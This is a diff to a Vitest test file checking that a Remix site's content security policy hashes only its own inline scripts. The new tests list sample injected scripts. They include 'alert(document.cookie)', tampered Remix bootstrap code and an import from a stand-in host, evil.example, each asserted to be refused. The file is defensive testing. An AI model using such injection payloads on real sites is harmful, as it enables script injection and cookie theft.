@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { createHash } from "node:crypto";
-import { inlineScriptHashes, isCrossSiteWrite, pageContentSecurityPolicy } from "~/security.server";
+import { isCrossSiteWrite, pageContentSecurityPolicy, siteScriptHashes } from "~/security.server";
 
 const site = "https://photobooths.test";
 
@@ -44,14 +44,26 @@ describe("cross-site write check", () => {
   });
 });
 
+const hash = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
+const script = (text: string, attributes = "") => `<script${attributes}>${text}</script>`;
+
+// Remix's scripts as it writes them (@remix-run/react's <Scripts> and single fetch's stream), the page's data escaped.
+const remixContext =
+  'window.__remixContext = {"basename":"/","future":{"v3_singleFetch":true},"isSpaMode":false,"note":"\\u003c/script\\u003e"};' +
+  "window.__remixContext.stream = new ReadableStream({start(controller){window.__remixContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());";
+const remixModules =
+  ';\nimport * as route0 from "/build/root-ROEXQYUO.js";\nimport * as route1 from "/build/routes/_index-G553ZXWU.js";\n' +
+  'window.__remixManifest = {\n  "entry": {\n    "module": "/build/entry.client-PHPX2TLL.js"\n  },\n  "url": "/build/manifest-E787FDA2.js"\n};\n' +
+  'window.__remixRouteModules = {"root":route0,"routes/_index":route1};\n\nimport("/build/entry.client-PHPX2TLL.js");';
+const remixData = 'window.__remixContext.streamController.enqueue("[{\\"_1\\":2},\\"loaderData\\",\\"\\u003cb\\u003e\\"]\\n");';
+const remixEnd = "window.__remixContext.streamController.close();";
+const ownScript = "window.site=1";
+
 describe("content security policy", () => {
-  it("allows each inline script by the SHA-256 of its exact text, and nothing else inline", async () => {
-    const html = '<script>window.a=1</script><script type="module" async>import("/x.js")</script>';
-    const hashes = await inlineScriptHashes(html);
-    expect(hashes).toEqual([
-      `'sha256-${createHash("sha256").update("window.a=1").digest("base64")}'`,
-      `'sha256-${createHash("sha256").update('import("/x.js")').digest("base64")}'`,
-    ]);
+  it("allows the site's own inline scripts by the SHA-256 of their exact text, Remix's among them", async () => {
+    const html = [script(ownScript), script(remixContext), script(remixModules, ' type="text/x-deferred-module"'), script(remixData), script(remixEnd)].join("");
+    const hashes = await siteScriptHashes(html, [ownScript]);
+    expect(hashes).toEqual([ownScript, remixContext, remixModules, remixData, remixEnd].map(hash));
     const policy = pageContentSecurityPolicy(hashes);
     expect(policy).toContain(`script-src 'self' ${hashes.join(" ")} https://js.stripe.com;`);
     expect(policy).not.toMatch(/script-src[^;]*('unsafe-inline'|'nonce-)/);
@@ -59,8 +71,25 @@ describe("content security policy", () => {
     expect(policy).toContain("frame-ancestors 'none'");
   });
 
+  it("allows no script injected into the page, even one dressed as Remix's", async () => {
+    const injected = [
+      "alert(document.cookie)",
+      `${ownScript};alert(1)`,
+      remixContext.replace('"isSpaMode":false', '"isSpaMode":alert(1)'),
+      remixContext.replace("window.__remixContext = {", "alert(1);window.__remixContext = {"),
+      'window.__remixContext.streamController.enqueue("x");alert(1);//");',
+      "window.__remixContext.streamController.enqueue(alert(1));",
+      remixModules.replace('import("/build/entry.client-PHPX2TLL.js");', 'import("https://evil.example/x.js");'),
+      remixModules.replace('"routes/_index":route1', '"routes/_index":alert(1)'),
+      remixModules.replace('"url": "/build/manifest-E787FDA2.js"\n}', '"url": alert(1)\n}'),
+      remixModules.replace("import * as route0", "alert(1);\nimport * as route0"),
+    ];
+    const html = [script(ownScript), ...injected.map((text) => script(text))].join("");
+    expect(await siteScriptHashes(html, [ownScript])).toEqual([hash(ownScript)]);
+  });
+
   it("needs no hash for scripts loaded from files or for JSON-LD data blocks", async () => {
     const html = '<script src="/build/entry.js"></script><script type="application/ld+json">{"@type":"Thing"}</script>';
-    expect(await inlineScriptHashes(html)).toEqual([]);
+    expect(await siteScriptHashes(html, [])).toEqual([]);
   });
 });
